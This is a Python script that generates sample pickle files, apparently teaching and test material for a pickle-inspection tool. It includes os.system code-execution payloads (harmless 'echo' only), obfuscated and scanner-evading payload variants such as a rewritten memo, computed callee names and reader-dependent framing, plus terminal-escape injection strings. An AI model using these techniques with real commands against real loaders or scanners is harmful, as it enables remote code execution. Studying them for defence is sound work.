#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Make the sample pickles.

    python3 make_samples.py [OUTDIR]     (default: the directory of this script)

Only Python's standard library is used, and CPython 3.11.7 writes the same bytes every time: no
clock, no random numbers, no sets of texts (their order changes from run to run).  README.md says
what each file shows.

The worst that loading any of these files can do is to run `echo`.  Classes that are not the
standard library's live in a module 'example' that exists in this process only, so a stranger who
loads such a file gets an ImportError.
"""
import array
import collections
import copyreg
import datetime
import decimal
import enum
import fractions
import functools
import hmac
import io
import os
import pathlib
import pickle
import struct
import sys
import types
import uuid

ECHO = "echo This ran because somebody loaded a pickle"

SAMPLES = {}  # file name -> function that returns its bytes

example = types.ModuleType("example")
sys.modules["example"] = example


def in_example(thing):
    """Move a class or function to the module 'example'."""
    thing.__module__ = "example"
    setattr(example, thing.__name__, thing)
    return thing


def sample(name, make):
    assert name not in SAMPLES, name
    SAMPLES[name] = make


def dumped(name, value, protocol=4):
    """A sample that pickle.dumps() writes; value is a function, so that no two samples share."""
    sample(name, lambda: pickle.dumps(value(), protocol))


# ---- The article's case --------------------------------------------------------------------------

class Exploit:
    """What an attacker sends: load() asks __reduce__'s answer how to make the object."""

    def __init__(self, command=ECHO):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


dumped("article.pkl", Exploit)
for number in range(6):
    dumped("article-protocol-%d.pkl" % number, Exploit, number)
dumped("evil.pkl", lambda: {"user": "ann", "tags": ["a", "b"], "job": Exploit("echo hi")})


@in_example
class Basket:
    """A plain class: its instances go as class plus __dict__."""

    def __init__(self, owner, items):
        self.owner = owner
        self.items = items


Price = in_example(collections.namedtuple("Price", "amount currency"))


def session():
    """A web session as a cache might keep it, with one entry that somebody else put there."""
    owner = collections.OrderedDict(name="Ann Example", languages=["en", "de"])
    price = Price(decimal.Decimal("19.90"), "EUR")
    return {
        "user": owner,
        "since": datetime.datetime(2024, 4, 1, 9, 30, tzinfo=datetime.timezone.utc),
        "token": bytes(range(48, 64)),
        "basket": Basket(owner, [("tea", 2, price), ("cup", 1, price)]),
        "visits": collections.Counter(home=7, tea=3),
        "on_close": Exploit("echo session closed"),
        "theme": None,
    }


dumped("session.pkl", session)

# ---- Every type that can be pickled --------------------------------------------------------------


@in_example
def greet(name):
    return "hello " + name


@in_example
class Colour(enum.Enum):
    RED = 1
    GREEN = 2

    def __reduce_ex__(self, protocol):
        # What Python 3.11.7 does by itself; 3.11.2 asks getattr for the member's name.
        return self.__class__, (self._value_,)


@in_example
class Celsius:
    """An instance with its own __getstate__ and __setstate__."""

    def __init__(self, degrees):
        self.degrees = degrees

    def __getstate__(self):
        return ("celsius", self.degrees)

    def __setstate__(self, state):
        self.degrees = state[1]


@in_example
class Point:
    """An instance without __dict__: its state is a pair (None, slots)."""

    __slots__ = ("x", "y")

    def __init__(self, x, y):
        self.x = x
        self.y = y


@in_example
class Empty:
    """An instance whose __dict__ is empty: nothing to BUILD."""


def pathological_texts():
    return ["", "plain", "line\nline\ttab", "'quotes' and \"quotes\"", "back\\slash",
            "\0\x01\x1b\x7f", "caf\u00e9 \u03a9 \u4f60\u597d", "\U0001f600",
            "\u202ereversed\u202c", "zero\u200bwidth", "lone \ud800 surrogate", "x" * 256]


def defaultdict_of_lists():
    result = collections.defaultdict(list)
    result["fruit"].append("apple")
    return result


TYPES = {
    "none-bool": lambda: [None, True, False],
    "int": lambda: [0, 1, -1, 255, 256, 65535, 65536, -128, 2**31 - 1, -2**31, 2**31, 2**63, -2**63,
                    10**40, -10**40, 1 << 2100],
    "float": lambda: [0.0, -0.0, 1.5, 0.1, 1e300, 5e-324, float("inf"), float("-inf"),
                      float("nan")],
    "complex": lambda: [1 + 2j, complex("nan+infj")],
    "str": pathological_texts,
    "bytes": lambda: [b"", b"abc", bytes(range(256)), b"\x89PNG\r\n\x1a\n", b"x" * 300],
    "bytearray": lambda: [bytearray(), bytearray(b"changes"), bytearray(300)],
    "tuple": lambda: [(), (1,), (1, 2), (1, 2, 3), (1, 2, 3, 4), ((), ((),))],
    "list": lambda: [[], [1], [1, 2, 3], [[1], [[2]]], list(range(1001))],
    "dict": lambda: [{}, {"a": 1}, {"a": 1, "b": {"c": 2}}, {None: 0, 1: 1, 1.5: 2, (1, 2): 3}],
    "set": lambda: [set(), {1}, {1, 2, 3}, frozenset(), frozenset({1, 2, 3})],
    "function": lambda: [len, print, os.getcwd, os.path.join, greet, "".join, str.upper],
    "class": lambda: [int, dict, Exception, Basket, collections.OrderedDict, type(None), type(...)],
    "instance": lambda: [Basket("ann", ["tea"]), Celsius(21.5), Empty(), ValueError("no", 7)],
    "slots": lambda: [Point(3, 4)],
    "ellipsis": lambda: [Ellipsis, NotImplemented],
    "range": lambda: [range(3), range(2, 10, 2), slice(1, None, 3)],
    "datetime": lambda: [datetime.date(2024, 4, 1), datetime.time(23, 59, 59, 999999),
                         datetime.datetime(2024, 4, 1, 12, 0, tzinfo=datetime.timezone.utc),
                         datetime.timedelta(days=-1, seconds=5),
                         datetime.timezone(datetime.timedelta(hours=-3), "BRT")],
    "number": lambda: [decimal.Decimal("3.14"), decimal.Decimal("NaN"), fractions.Fraction(-2, 3)],
    "uuid": lambda: [uuid.UUID("12345678-1234-5678-1234-567812345678")],
    "path": lambda: [pathlib.PurePosixPath("/etc/hosts"), pathlib.PureWindowsPath("C:/x")],
    "ordereddict": lambda: [collections.OrderedDict([("first", 1), ("second", 2)])],
    "defaultdict": lambda: [defaultdict_of_lists()],
    "deque": lambda: [collections.deque([1, 2, 3], maxlen=5)],
    "counter": lambda: [collections.Counter({"a": 3, "b": 1})],
    "namedtuple": lambda: [Price(decimal.Decimal("1.50"), "EUR")],
    "enum": lambda: [Colour.RED, Colour.GREEN, Colour.RED],
    "array": lambda: [array.array("i", [1, -2, 3]), array.array("d", [0.5]),
                      array.array("u", "hi")],
}

for type_name, type_value in TYPES.items():
    dumped("type-%s.pkl" % type_name, type_value)



def every_type(protocol):
    """One dict with all of them; slots need protocol 2."""
    return {name: value() for name, value in TYPES.items() if protocol > 1 or name != "slots"}


for number in range(6):
    dumped("types-protocol-%d.pkl" % number, functools.partial(every_type, number), number)

# ---- Every form that __reduce__ may return -------------------------------------------------------


@in_example
class Reduced:
    """Answers with what it was given."""

    def __init__(self, *answer):
        self.answer = answer

    def __reduce__(self):
        return self.answer

    def __call__(self, *args):
        return self.answer


@in_example
class Singleton:
    """A text as the answer: the name of a global that is this object."""

    def __reduce__(self):
        return "the_only_one"


example.the_only_one = Singleton()


@in_example
class ByProtocol:
    """__reduce_ex__ is asked first, and is told the protocol."""

    def __reduce_ex__(self, protocol):
        return complex, (protocol, -1)


@in_example
class Angle(float):
    """The arguments of __new__ come from __getnewargs__."""

    def __new__(cls, degrees):
        return super().__new__(cls, degrees)

    def __getnewargs__(self):
        return (float(self),)


@in_example
class Interval:
    """Arguments by name need __getnewargs_ex__."""

    def __new__(cls, *, low, high):
        self = super().__new__(cls)
        self.low, self.high = low, high
        return self

    def __getnewargs_ex__(self):
        return (), {"low": self.low, "high": self.high}


@in_example
def set_state(target, state):
    """The sixth item of a reduce tuple: called instead of __setstate__."""
    target.__dict__.update(state)


dumped("reduce-string.pkl", lambda: example.the_only_one)
dumped("reduce-tuple-2.pkl", lambda: Reduced(complex, (3, 4)))
dumped("reduce-tuple-3.pkl", lambda: Reduced(Empty, (), {"colour": "red"}))
dumped("reduce-tuple-4.pkl", lambda: Reduced(list, (), None, iter([1, 2, 3])))
dumped("reduce-tuple-5.pkl", lambda: Reduced(dict, (), None, None, iter([("a", 1), ("b", 2)])))
dumped("reduce-tuple-6.pkl", lambda: Reduced(Empty, (), {"colour": "red"}, None, None, set_state))
dumped("reduce-all-parts.pkl",
       lambda: Reduced(collections.UserList, ((0,),), {"seen": True}, iter([1, 2]),
                       iter([(0, "first")]), set_state))
dumped("reduce-ex.pkl", ByProtocol)
for number in (1, 2, 4):
    dumped("getnewargs-protocol-%d.pkl" % number, lambda: Angle(90), number)
for number in (2, 4):
    dumped("getnewargs-ex-protocol-%d.pkl" % number, lambda: Interval(low=1, high=2), number)

# ---- What the program that loads must help with --------------------------------------------------


def extension_codes():
    """Three classes under registered numbers: EXT1, EXT2 and EXT4."""
    codes = ((7, "Basket"), (700, "Celsius"), (70000, "Point"))
    for code, name in codes:
        copyreg.add_extension("example", name, code)
    try:
        return pickle.dumps([Basket, Celsius, Point], 4)
    finally:
        for code, name in codes:
            copyreg.remove_extension("example", name, code)


class Persisting(pickle.Pickler):
    """Writes an id in place of what the application keeps elsewhere."""

    def persistent_id(self, obj):
        return "basket-17" if isinstance(obj, Basket) else None


def persistent_ids(protocol):
    out = io.BytesIO()
    basket = Basket("ann", [])
    Persisting(out, protocol).dump({"first": basket, "again": basket})
    return out.getvalue()


def buffers(out_of_band):
    value = {"writable": pickle.PickleBuffer(bytearray(b"picture")),
             "frozen": pickle.PickleBuffer(b"sound")}
    return pickle.dumps(value, 5, buffer_callback=(lambda buffer: None) if out_of_band else None)


sample("extension-codes.pkl", extension_codes)
sample("persistent-id-text.pkl", lambda: persistent_ids(0))
sample("persistent-id.pkl", lambda: persistent_ids(4))
sample("buffers-out-of-band.pkl", lambda: buffers(True))
sample("buffers-in-band.pkl", lambda: buffers(False))

# ---- The memo ------------------------------------------------------------------------------------


def list_in_itself():
    result = ["a list that holds itself"]
    result.append(result)
    return result


def dict_in_itself():
    result = {"name": "a dict that holds itself"}
    result["self"] = result
    result["in a list"] = [result, result]
    return result


def object_in_itself():
    parent, child = Basket("parent", []), Basket("child", [])
    parent.items.append(child)
    child.owner = parent
    return parent


def tuple_in_itself():
    result = ([],)
    result[0].append(result)
    return result


def shared_twice():
    inner = {"colour": "red"}
    return {"first": inner, "second": inner, "all": [inner, inner]}


def laughs():
    """Ten of ten of ten ...: a billion leaves, ten lists."""
    value = ["ha"] * 10
    for _ in range(8):
        value = [value] * 10
    return value


dumped("cycle-list.pkl", list_in_itself)
dumped("cycle-list-protocol-0.pkl", list_in_itself, 0)
dumped("cycle-dict.pkl", dict_in_itself)
dumped("cycle-object.pkl", object_in_itself)
dumped("cycle-tuple.pkl", tuple_in_itself)
dumped("shared.pkl", shared_twice)
dumped("billion-laughs.pkl", laughs)

# ---- Made by hand: what no pickler of today writes -----------------------------------------------


def short(text):
    """SHORT_BINUNICODE and its argument."""
    data = text.encode("utf-8", "surrogatepass")
    return b"\x8c" + bytes([len(data)]) + data


def named(module, name):
    return short(module) + short(name) + b"\x93"


PAYLOAD = named("posix", "system") + short(ECHO) + b"\x85R"

sample("inst.pkl", lambda: b"(Vecho INST was here\niposix\nsystem\n.")
sample("obj.pkl", lambda: b"(cposix\nsystem\nX\x11\x00\x00\x00echo OBJ was hereo.")
sample("python2.pkl",
       lambda: b"(dp0\nS'name'\np1\nS'ann'\np2\nsS'old'\np3\n(i__builtin__\nset\np4\n"
               b"sS'big'\np5\nL12345678901234567890L\nsS'yes'\np6\nI01\ns.")
sample("python2-latin1.pkl", lambda: b"\x80\x02}q\x00U\x04nameq\x01U\x05caf\xc3\xa9q\x02s.")
sample("truncated.pkl", lambda: pickle.dumps(session(), 2)[:-9])
sample("truncated-frame.pkl", lambda: pickle.dumps(session(), 4)[:-9])
sample("truncated-protocol-0.pkl", lambda: pickle.dumps(session(), 0)[:200])
sample("no-stop.pkl", lambda: pickle.dumps([1, 2, 3], 2)[:-1])
sample("two-pickles.pkl", lambda: pickle.dumps({"pickle": "first"}, 4) + pickle.dumps(Exploit(), 2))
sample("trailing-bytes.pkl",
       lambda: pickle.dumps("all that is read", 4) + b"\xff nobody reads this\n")
sample("broken-after-payload.pkl", lambda: b"\x80\x04" + PAYLOAD + b"\xff")
sample("underflow-after-payload.pkl", lambda: b"\x80\x04" + PAYLOAD + b"00.")
sample("nested.pkl", lambda: pickle.dumps({"picture": pickle.dumps(Exploit(), 4)}, 4))
sample("loads-nested.pkl",
       lambda: pickle.dumps(Reduced(pickle.loads, (pickle.dumps(Exploit(), 4),)), 4))
sample("computed-callee.pkl",
       lambda: b"\x80\x04" + named("builtins", "getattr") + named("builtins", "__import__")
       + short("os") + b"\x85R" + short("system") + b"\x86R" + short(ECHO) + b"\x85R.")
sample("dotted-name.pkl",
       lambda: b"\x80\x04" + named("shutil", "os.system") + short(ECHO) + b"\x85R.")
sample("fetched-callee.pkl",
       lambda: b"\x80\x04" + named("posix", "system") + b"\x940]\x94(K\x01h\x00" + short(ECHO)
       + b"\x85RK\x02e.")


def frame(size):
    return b"\x95" + size.to_bytes(8, "little")


# The frame ends inside the argument of GLOBAL: who has all bytes in memory reads on, a stream drops
# what is left of the frame.
sample("readers-frame-split.pkl",
       lambda: b"\x80\x04" + frame(3) + b"cmyos\nsystem\n" + short("echo read from a stream")
       + b"\x85R.")
# strtol() and C's strings end at the NUL; int() refuses it.
def joblib_array():
    """As joblib writes an array: a wrapper, then raw bytes behind its BUILD, then opcodes again."""
    def text(word):
        return b"X" + struct.pack("<I", len(word)) + word.encode()

    dtype = (b"cnumpy\ndtype\n(" + text("f8") + b"\x89\x88tR(K\x03" + text("<") +
             b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb")
    head = (b"\x80\x04](cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + text("subclass") +
            b"cnumpy\nndarray\n" + text("shape") + b"K\x02K\x03\x86" + text("order") + text("C") + text("dtype") + dtype +
            text("allow_mmap") + b"\x88" + text("numpy_array_alignment_bytes") + b"K\x10ub")
    padding = 16 - (len(head) + 1) % 16
    return (head + bytes([padding]) + b"\xff" * padding
            + struct.pack("<6d", 0.5, 1, 1.5, 2, 2.5, 3) + PAYLOAD + b"e.")


sample("joblib-array.pkl", joblib_array)
sample("readers-int-nul.pkl", lambda: b"\x80\x04I1\0 is not a number\n0" + PAYLOAD + b".")
# Longer than the file: the C unpickler wants to see it whole first.
sample("readers-frame-too-long.pkl", lambda: b"\x80\x04" + frame(1000) + PAYLOAD + b".")

dumped("types-in-short.pkl", lambda: [
    None, True, 7, 2.5, 3 + 4j, "ann", b"\xff", bytearray(b"ab"), ("a", 1), ["b"], {"k": 2}, {3},
    frozenset([4]), len, Basket, Basket("ann", [])], 5)

# ---- Several pickles in a row, for lessons that go from one to the next ---------------------------

sample("protocols.pkl", lambda: b"".join(pickle.dumps(["ann", b"\xff"], n) for n in range(6)))
sample("reduce-forms.pkl", lambda: b"".join(pickle.dumps(thing, 4) for thing in (
    example.the_only_one,
    Reduced(complex, (3, 4)),
    Reduced(Empty, (), {"colour": "red"}),
    Reduced(list, (), None, iter([1, 2])),
    Reduced(dict, (), None, None, iter([("a", 1)])),
    Reduced(Empty, (), {"colour": "red"}, None, None, set_state))))


def signed():
    """The key is no secret: it is for everybody who wants to try."""
    data = pickle.dumps({"user": "ann", "admin": False}, 4)
    return data + hmac.digest(b"picklescope lessons", data, "sha256")


sample("signed.pkl", signed)


def signed_message():
    """As a client sends it: the digest in digits, a space, the pickle."""
    data = pickle.dumps({"user": "ann", "basket": ["tea", "cups"], "paid": False}, 4)
    return hmac.new(b"shared-key", data, "sha256").hexdigest().encode() + b" " + data


sample("signed-message.bin", signed_message)
# An editor ends a file with an end of line, which is no part of the key.
sample("signed-message.key", lambda: b"shared-key\n")
# The first is harmless; the second writes memo slot 0 anew; the third computes what it calls; the
# fourth is read by the C unpickler only; the fifth breaks when all is done.
sample("hiding.pkl", lambda: pickle.dumps({"pickle": "first"}, 4)
       + b"\x80\x02" + short("getcwd") + b"q\x000" + short("system") + b"q\x000" + short("posix")
       + b"h\x00\x93" + short("echo rewritten memo") + b"\x85R."
       + b"\x80\x04" + named("builtins", "getattr") + named("builtins", "__import__") + short("os")
       + b"\x85R" + short("system") + b"\x86R" + short("echo computed name") + b"\x85R."
       + b"\x80\x04I1\0 is not a number\n0" + named("posix", "system")
       + short("echo one reader only") + b"\x85R."
       + b"\x80\x04" + named("posix", "system") + short("echo broken tail") + b"\x85R\xff")

sample("not-a-pickle.pkl", lambda: b"This is a text file whose name tells a lie.\n")
sample("empty.pkl", lambda: b"")


def hostile_text():
    """Texts that would move the cursor, change the title, hide or turn letters, if shown raw."""
    texts = {
        "clear": "\x1b[2J\x1b[H", "title": "\x1b]0;owned\x07",
        "hidden": "\x1b[8mcannot be seen\x1b[0m", "clipboard": "\x1b]52;c;ZWNobyBoaQ==\x07",
        "c1": "\x9b31mred", "overwrite": "rm -rf\rls    ",
        "bell": "\a\a\a", "backspace": "bad\b\b\bgood", "shift": "\x0e\x0f", "nul": "a\0b",
        "reversed": "photo\u202egnp.exe", "isolate": "\u2066\u2067x\u2069",
        "zero width": "a\u200b\u200d\ufeffb",
        "soft hyphen": "pass\u00adword", "line": "one\u2028two\u2029three\u0085four",
        "combining": "z" + "\u0300\u0316\u0334" * 20, "wide": "\uff37\uff29\uff24\uff25",
        "look-alike": "\u0440\u0430\u0443\u0440\u0430l", "tags": "\U000e0041\U000e0042",
        "surrogate": "\udc80\ud83d", "private": "\ue000\U0010ffff", "variation": "a\ufe0f",
    }
    return (b"\x80\x04}(" + b"".join(short(key) + short(value) for key, value in texts.items())
            + short("\x1b[31mkey\x1b[0m") + b"C\x08\x1b[1m\xff\x9b\x07\x00"
            + short("names") + b"(" + named("os\x1b[8m", "sys\ntem") + named("\u043es", "system")
            + named("posix", "system\u202e") + b"tu.")


sample("hostile-text.pkl", hostile_text)
sample("hostile-text-protocol-0.pkl",
       lambda: b"(lV\x1b[2J\\u202eV\x07\naS'\x1b]0;owned\\x07'\nacos\x1b[8m\nsystem\r\na"
               b"P\x1b[31mid\na.")
dumped("protocol-0.pkl",
       lambda: {"text": "readable", "list": [1, 2.5, None, True], "long": 2**70}, 0)


def all_opcodes():
    """All 68 opcodes in one pickle that a reader with help (ids, buffers, codes) reads whole."""
    return b"".join([
        b"\x80\x05", b"\x95\x02\x00\x00\x00\x00\x00\x00\x00]\x94",  # PROTO FRAME EMPTY_LIST MEMOIZE
        b"(", b"N", b"\x88", b"\x89", b"I1\n", b"L2L\n", b"J\x03\x00\x00\x00",
        b"K\x04", b"M\x05\x00",
        b"\x8a\x01\x06", b"\x8b\x01\x00\x00\x00\x07", b"F8.5\n", b"G@\x22\x00\x00\x00\x00\x00\x00",
        b"S'STRING'\n", b"T\x03\x00\x00\x00bin", b"U\x05short", b"C\x05bytes",
        b"B\x01\x00\x00\x00b",
        b"\x8e\x01\x00\x00\x00\x00\x00\x00\x00c", b"\x96\x01\x00\x00\x00\x00\x00\x00\x00d",
        b"Vunicode\n", b"X\x01\x00\x00\x00u", b"\x8c\x01v",
        b"\x8d\x01\x00\x00\x00\x00\x00\x00\x00w",
        b"\x97", b"\x97\x98",  # NEXT_BUFFER READONLY_BUFFER
        b"e",  # APPENDS
        b"(K\x01K\x02l", b"a", b"(K\x03t", b"a", b")", b"a",  # LIST TUPLE EMPTY_TUPLE APPEND
        b"K\x01\x85", b"a", b"K\x01K\x02\x86", b"a", b"K\x01K\x02K\x03\x87", b"a",
        b"(K\x01K\x02d", b"K\x03K\x04s", b"a", b"}(K\x05K\x06u", b"a",  # DICT SETITEM EMPTY_DICT SETITEMS
        b"\x8f(K\x01K\x02\x90", b"a", b"(K\x03\x91", b"a",  # EMPTY_SET ADDITEMS FROZENSET
        b"K\x09p100\n", b"0", b"g100\n", b"a", b"K\x0aqe", b"0", b"he", b"a",  # PUT GET BINPUT BINGET
        b"K\x0br\x00\x01\x00\x00", b"0", b"j\x00\x01\x00\x00", b"a",  # LONG_BINPUT LONG_BINGET
        b"K\x0c2", b"\x86", b"a", b"(K\x0d1",  # DUP POP_MARK
        b"ccollections\nCounter\n)R", b"a", named("fractions", "Fraction") + b"K\x02\x85\x81", b"a",
        b"cdecimal\nDecimal\n)}\x92", b"a",  # NEWOBJ_EX
        b"(icollections\nOrderedDict\n", b"a", b"(ccollections\ndeque\no", b"a",  # INST OBJ
        b"cexample\nEmpty\n)\x81}" + short("colour") + short("red") + b"sb", b"a",  # BUILD
        b"P17\n", b"a", b"K\x12Q", b"a",  # PERSID BINPERSID
        b"\x82\x07", b"a", b"\x83\xbc\x02", b"a", b"\x84\x70\x11\x01\x00", b"a",  # EXT1 EXT2 EXT4
        b"."])


sample("all-opcodes.pkl", all_opcodes)


def main():
    folder = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
    os.makedirs(folder, exist_ok=True)
    for name, make in SAMPLES.items():
        with open(os.path.join(folder, name), "wb") as out:
            out.write(make())


if __name__ == "__main__":
    main()
